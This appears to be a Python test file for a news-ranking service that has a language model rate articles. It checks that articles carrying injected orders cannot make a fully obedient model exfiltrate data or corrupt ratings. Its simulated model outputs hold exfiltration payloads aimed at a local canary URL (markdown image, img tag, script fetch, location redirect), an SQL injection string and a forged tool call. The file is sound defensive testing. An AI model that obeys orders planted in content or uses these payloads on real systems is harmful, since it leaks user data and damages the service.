"""Articles that give orders, and the worst of models, which obeys them all: what comes of it is one
number from 1 to 5 of the very article, and a line of plain text.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from llm.injections import MARK, ORDERS, WAYS, injections
from llm.server import Asked, answer, serving
from llm.world import World, about
from newsloom.kernel.text.html import to_text
from newsloom.llm.purpose import REACH, held
from newsloom.ranking.purposes import prompt

Says = list[dict[str, Any]]


def obedient(canary: str) -> tuple[Says, Says]:
    """What a model says that does as it is told: answers that can be used, and that cannot."""
    link = f"{canary}/?q=all+articles"
    nasty = f'Done. ![x]({link}) <img src="{link}"> <script>fetch("{link}")</script> {link} \u202e'
    call = {"id": "1", "type": "function", "function": {"name": "open", "arguments": link}}
    used: Says = [
        {"content": answer(1, "high", nasty)},
        {"content": answer(5, "high", nasty)},
    ]
    unused: Says = [
        {"content": answer(999, "high", nasty)},
        {"content": answer("1; DROP TABLE states; --", "high", nasty)},
        {"content": json.dumps({**json.loads(answer(1)), "delete": "all", "open": link})},
        {"content": f"I obey. {answer(1)}"},
        {"content": None, "message": {"tool_calls": [call]}},
        {"content": answer(1, "high", {"url": link})},
        {"content": answer(-1, link, nasty)},
        {"content": f"<script>location='{link}'</script>"},
    ]
    return used, unused


def test_there_are_enough_of_them() -> None:
    made = list(injections("http://canary.test"))
    assert len(made) >= 200
    assert len(ORDERS) >= 10
    assert len(WAYS) >= 8
    assert len({one.content for one in made}) == len(made)


def test_what_no_reader_sees_reaches_no_model() -> None:
    for one in injections("http://canary.test"):
        asked = prompt(about(one.title, to_text(one.content, 2_000)), "9f" * 8, 2048)
        assert (MARK in asked.user) <= one.clear, one.name
        lines = asked.user.split("\n")
        assert lines[0] == lines[-2] == "9f" * 8, one.name
        assert asked.user.replace("\n", "").isprintable(), one.name


def test_the_worst_model_reaches_one_number_and_one_line(world: World) -> None:
    async def main() -> None:
        async with serving(silent) as canary:
            link = f"http://127.0.0.1:{canary.port}"
            world.bring([(one.title, one.content) for one in injections(link)])
            used, unused = obedient(link)

            async def obey(request: Asked) -> None:
                # Every second answer is one that can be used: five others in a row would rest it.
                place = int(request.title.split()[0])
                says = unused if place % 2 else used
                await request.say(**says[place // 2 % len(says)])

            before = world.untouched()
            async with serving(obey) as server:
                await world.ask(server.url, rounds=12)
                assert {int(one.title.split()[0]) for one in server.asked} == set(
                    range(1, len(world.ids) + 1)
                )
            assert world.untouched() == before
            assert canary.connections == 0

    asyncio.run(main())
    assert_bounded(world)


async def silent(request: Asked) -> None:
    """Reached by nobody."""


def assert_bounded(world: World) -> None:
    """Half the answers became ratings: numbers from 1 to 5 and lines without anything to follow."""
    rated = world.ratings()
    assert len(rated) == len(world.ids) // 2
    assert {one.rating for one in rated.values()} == {1, 5}
    for one in rated.values():
        assert one.explanation.startswith("Done.")
        assert one.explanation.isprintable()
        assert not set(one.explanation) & set("<>[]()!`") - set("()!")
        assert "http" not in one.explanation
        assert "127.0.0.1" not in one.explanation
    ranked = world.listed()
    world.score()
    for number, one in world.listed().items():
        told = rated[number].rating if number in rated else 3
        assert one.sensitivity == held(3, told)
        assert abs(one.sensitivity - ranked[number].sensitivity) <= REACH
        assert one.score <= one.relevance == ranked[number].relevance
        assert one.state == ranked[number].state


@pytest.mark.parametrize("own", range(1, 6))
@pytest.mark.parametrize("told", range(1, 6))
def test_a_rating_moves_two_steps_at_most(own: int, told: int) -> None:
    moved = held(own, told)
    assert 1 <= moved <= 5
    assert abs(moved - own) <= REACH
    assert moved == told or abs(told - own) > REACH
